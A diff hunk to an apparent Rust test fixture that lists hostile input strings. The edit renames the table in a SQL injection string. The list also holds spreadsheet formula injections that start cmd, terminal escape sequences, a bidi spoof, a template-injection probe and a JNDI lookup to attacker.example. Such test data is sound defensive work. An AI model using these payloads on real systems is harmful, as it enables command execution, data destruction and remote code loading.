@@ -53,7 +53,7 @@ const HOSTILE: [&str; 12] = [
     "+1+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "-2+3",
-    "'; DROP TABLE approvals; --",
+    "'; DROP TABLE approval_calls; --",
     "line one\r\nline two\ttab \u{0001}\u{001b}[31mred",
     "\u{202e}devorppa\u{202c} \u{feff}\u{200b}",
     "{{7*7}} ${jndi:ldap://attacker.example/a} %s%n",
